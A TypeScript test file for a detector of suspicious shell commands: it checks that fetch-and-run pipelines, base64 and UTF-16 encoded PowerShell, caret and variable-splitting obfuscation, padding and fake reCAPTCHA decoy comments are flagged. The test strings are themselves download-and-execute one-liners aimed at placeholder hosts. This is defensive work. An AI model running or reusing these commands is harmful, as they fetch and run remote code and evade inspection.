import assert from 'node:assert/strict'
import { test } from 'node:test'
import fc from 'fast-check'
import { analyseCommand } from './analyse.ts'
import { decodeBase64 } from './decode.ts'
import { lex } from './lex.ts'

const does = (text: string): readonly string[] => analyseCommand(text).does
const utf16 = (text: string): string => Buffer.from(text, 'utf16le').toString('base64')
const base64 = (text: string): string => Buffer.from(text).toString('base64')

test('what is fetched and run is found, however it flows', () => {
  for (const text of [
    'curl -s https://a.example/x | bash',
    'bash -c "$(curl -fsSL https://a.example/x)"',
    'p=$(curl https://a.example/x); eval "$p"',
    'curl -o /tmp/a.sh https://a.example/a.sh && bash /tmp/a.sh',
    'source <(wget -qO- https://a.example/x)',
    'iex (New-Object Net.WebClient).DownloadString("https://a.example/x")',
    "powershell -c \"& ('{1}{0}' -f 'x','ie') (irm https://a.example/b)\"",
    'set a=cu&&set b=rl&&%a%%b% -o %temp%\\x.bat http://1.2.3.4/x && %temp%\\x.bat',
    `osascript -e 'do shell script "curl https://a.example/x | zsh"'`,
    'python3 -c "import urllib.request as u;exec(u.urlopen(\'https://a.example/a\').read())"',
  ])
    assert.ok(does(text).includes('fetch-execute'), text)
})

test('encodings are read through', () => {
  assert.ok(does(`echo ${base64('curl -s https://a.example | zsh')} | base64 -D | bash`).includes('decode-execute'))
  const hidden = analyseCommand(`powershell -NoP -e ${utf16('iwr https://a.example/x | iex')}`)
  assert.ok(hidden.does.includes('encoded-command') && hidden.does.includes('fetch-execute'))
  assert.deepEqual(hidden.urls, ['https://a.example/x'])
})

test('honest commands do nothing of the kind', () => {
  for (const text of [
    'curl -s https://api.example.com/x | jq .',
    'kubectl get secret db -o json | jq -r .data.x | base64 -d',
    'eval "$(ssh-agent -s)"',
    'bash <(cat script.sh)',
    'git clone https://github.com/a/b && cd b && npm ci',
    'powershell -NoProfile -File C:\\Scripts\\a.ps1',
    'certutil -hashfile a.iso SHA256',
    'msiexec /i setup.msi /qn',
    'rundll32 shell32.dll,Control_RunDLL',
    'echo "curl test"',
  ])
    assert.deepEqual(does(text), [], text)
})

test("a vendor's own installer is named as such; the same path on a shared host of another owner is not", () => {
  assert.equal(analyseCommand("curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh").vendorOnly, true)
  assert.equal(
    analyseCommand('/bin/bash -c "$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"')
      .vendorOnly,
    true,
  )
  assert.equal(
    analyseCommand('curl -fsSL https://raw.githubusercontent.com/someone/install/HEAD/install.sh | bash').vendorOnly,
    false,
  )
  assert.equal(analyseCommand('curl -sSf http://sh.rustup.rs | sh').vendorOnly, false)
})

test('padding, decoys and disguises are facts', () => {
  assert.ok(analyseCommand(`curl -s https://a.example | sh${'\n'.repeat(500)}echo done`).padding >= 400)
  assert.equal(
    analyseCommand('mshta https://a.example/x # ✅ I am not a robot - reCAPTCHA ID: 1234').decoyComment,
    true,
  )
  assert.ok(analyseCommand('p^o^w^e^r^s^h^e^l^l -c "iex (irm https://a.example)"').disguises.includes('caret'))
})

test('the lexer keeps every sign that is no separator, and nothing throws', () => {
  assert.deepEqual(
    lex('a "b c" | d > e').map((segment) => segment.words.map((word) => word.text)),
    [['a', 'b c'], ['d']],
  )
  fc.assert(fc.property(fc.string({ maxLength: 300 }), (text) => lex(text).length >= 0))
  fc.assert(fc.property(fc.string({ maxLength: 200 }), (text) => analyseCommand(`bash -c "${text}`).padding >= 0))
})

test('nesting does not explode', () => {
  const started = performance.now()
  analyseCommand('$('.repeat(5000))
  analyseCommand(`${'bash -c "'.repeat(60)}x`)
  analyseCommand("'".repeat(20_001))
  assert.ok(performance.now() - started < 5000)
})

test('base64 that hides text decodes; other things do not', () => {
  assert.equal(decodeBase64(base64('hello world'))?.text, 'hello world')
  assert.equal(decodeBase64(utf16('hello'))?.how, 'base64-utf16')
  assert.equal(decodeBase64('////////////'), null)
  fc.assert(
    fc.property(
      fc.string({ minLength: 6, unit: fc.constantFrom(...'abcdef ghij-|') }),
      (text) => decodeBase64(base64(text))?.text === text,
    ),
  )
})
